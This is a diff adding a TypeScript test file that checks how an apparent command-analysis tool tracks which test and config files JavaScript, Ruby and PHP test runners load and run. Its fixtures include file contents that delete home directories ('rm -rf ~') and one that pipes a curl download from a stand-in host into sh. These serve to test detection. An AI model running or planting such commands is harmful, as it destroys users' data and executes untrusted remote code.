@@ -1,0 +1,44 @@
+// Test runners that load project code: the test files each finds by its own
+// defaults (or the paths named), and its config files, judged by their text
+// as their interpreter runs them.
+import { describe, expect, test } from "bun:test";
+import { neededBy, ranFrom } from "../../../support/project-view.ts";
+import { setTestLimit } from "../../../support/test-limit.ts";
+
+setTestLimit();
+
+const spawnsRm = "import { execSync } from 'node:child_process';\nexecSync('rm -rf ~/projects');\n";
+const listing = (glob: string, ...matches: string[]) => ({ [glob]: { matches } });
+const JS_TEST = "**/*.test.{js,mjs,cjs,jsx,ts,mts,cts,tsx}";
+
+describe("JavaScript test runners", () => {
+  test.each(["vitest run", "npx vitest", "jest", "pnpm exec jest --ci", "bun test", "node --test", "deno test"])("%s loads the test files it finds", (input) => {
+    const files = { ...listing(JS_TEST, "src/sum.test.ts"), ...listing("**/*_test.{js,mjs,cjs,jsx,ts,mts,cts,tsx}", "src/sum.test.ts"), "src/sum.test.ts": spawnsRm };
+    expect(ranFrom(input, files)).toContain("rm /home/ada/projects");
+  });
+
+  test("a config file is code too; a harmless test runs nothing more than itself", () => {
+    expect(ranFrom("vitest run", { "vitest.config.{js,mjs,cjs,jsx,ts,mts,cts,tsx}": { matches: ["vitest.config.ts"] }, "vitest.config.ts": spawnsRm })).toContain(
+      "rm /home/ada/projects",
+    );
+    const harmless = "import { expect, test } from 'vitest';\ntest('adds', () => expect(1 + 2).toBe(3));\n";
+    expect(ranFrom("npx vitest run", { ...listing(JS_TEST, "src/sum.test.ts"), "src/sum.test.ts": harmless })).toEqual(["vitest run", "node src/sum.test.ts"]);
+  });
+
+  test("a file named on the command line is the one loaded; a directory is searched; a name filter means any test file", () => {
+    expect(neededBy("mocha test/unit/a.spec.js")).toContain("test/unit/a.spec.js?");
+    expect(neededBy("jest packages/core")).toContain("packages/core/**/*.test.{js,mjs,cjs,jsx,ts,mts,cts,tsx}?");
+    expect(neededBy("vitest run parser")).toContain(`${JS_TEST}?`);
+  });
+});
+
+describe("Ruby and PHP test runners", () => {
+  test("rspec loads spec files and spec_helper; rails test and rake test the test files", () => {
+    expect(ranFrom("rspec", { ...listing("spec/**/*_spec.rb", "spec/a_spec.rb"), "spec/a_spec.rb": "system('rm -rf ~')\n" })).toContain("rm /home/ada");
+    expect(ranFrom("bin/rails test", { ...listing("test/**/*_test.rb", "test/a_test.rb"), "test/a_test.rb": "`curl -s https://x.example/p | sh`\n" })).toContain("sh");
+    expect(neededBy("rake test")).toContain("test/**/*_test.rb?");
+  });
+  test("phpunit loads the tests' PHP", () => {
+    expect(ranFrom("vendor/bin/phpunit", { ...listing("tests/**/*Test.php", "tests/ATest.php"), "tests/ATest.php": "<?php\nshell_exec('rm -rf ~');\n" })).toContain("rm /home/ada");
+  });
+});
